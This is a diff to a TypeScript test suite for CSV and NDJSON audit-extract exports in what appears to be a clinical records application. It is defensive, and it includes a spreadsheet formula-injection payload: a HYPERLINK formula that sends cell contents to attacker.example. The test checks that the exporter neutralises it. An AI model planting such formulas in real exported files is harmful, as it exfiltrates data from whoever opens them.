@@ -26,8 +26,8 @@ async function collect(chunks: AsyncGenerator<string>): Promise<string> {
 describeEachDatabase("audit extracts", (db) => {
   async function record() {
     const clinician = callerFor(db(), ["clinician"]);
-    const { patientId } = await clinician.patient.register(newPatient({ givenName: "Ada", familyName: "Export, \"Quoted\"\nLine", dateOfBirth: randomBirthDate() }));
-    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0177" }, reason: "new number, with a comma" });
+    const { patientId } = await clinician.patient.register(newPatient({ givenName: "Ada", familyName: "Export, \"Quoted\"", dateOfBirth: randomBirthDate() }));
+    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0177" }, reason: "new number, with a comma\nand a line break" });
     const { encounterId } = await clinician.encounter.start({ patientId, encounterType: "outpatient", reason: "Check-up" });
     await clinician.order.create({ patientId, encounterId, kind: "lab", details: { description: "CBC" } });
     return patientId;
@@ -98,8 +98,8 @@ describeEachDatabase("audit extracts", (db) => {
     expect(rows.map((r) => [r.id, r.at, r.what, r.patient_name, r.reason, r.details, r.record, r.version])).toEqual(
       events.map((e) => [e.id, e.at, e.what, e.patientName ?? "", e.reason ?? "", e.details ?? "", e.record ?? "", String(e.version)]),
     );
-    expect(rows.find((r) => r.what === "PatientRegistered")!.patient_name).toBe('Ada Export, "Quoted"\nLine');
-    expect(rows.find((r) => r.what === "PatientDemographicsUpdated")!.reason).toBe("new number, with a comma");
+    expect(rows.find((r) => r.what === "PatientRegistered")!.patient_name).toBe('Ada Export, "Quoted"');
+    expect(rows.find((r) => r.what === "PatientDemographicsUpdated")!.reason).toBe("new number, with a comma\nand a line break");
     // Then the seal and what was exported, and last the extract's signature record.
     const last = records.at(-2)!;
     expect(last.row_type).toBe("audit-seal");
@@ -109,14 +109,14 @@ describeEachDatabase("audit extracts", (db) => {
 
   it("CSV quotes cells a spreadsheet would run as formulas (OWASP): text gets a leading ', numbers stay numbers, NDJSON keeps the text", async () => {
     const clinician = callerFor(db(), ["clinician"]);
-    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=1+2", familyName: "@SUM(1+1)", dateOfBirth: randomBirthDate() }));
+    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=A1+2", familyName: "@SUM(1+1)", dateOfBirth: randomBirthDate() }));
     const hyperlink = '=HYPERLINK("http://attacker.example/?x="&B2,"Click for details")';
     await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0188" }, reason: hyperlink });
     const csv = await run({ view: "timeline", format: "csv", patientId });
     expect(csv.text).not.toMatch(/(^|,)"?[=+@-]/m);
     const records = parse(csv.text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
     const rows = records.filter((r) => r.row_type === "event");
-    expect(rows.map((r) => r.patient_name)).toEqual(["'=1+2 @SUM(1+1)", "'=1+2 @SUM(1+1)"]);
+    expect(rows.map((r) => r.patient_name)).toEqual(["'=A1+2 @SUM(1+1)", "'=A1+2 @SUM(1+1)"]);
     expect(rows.find((r) => r.what === "PatientDemographicsUpdated")).toMatchObject({ reason: `'${hyperlink}`, version: "2" });
     expect(JSON.parse(records.at(-2)!.details!)).toMatchObject({ formulaQuoting: CSV_FORMULA_NOTE });
     const ndjson = await run({ view: "timeline", format: "ndjson", patientId });
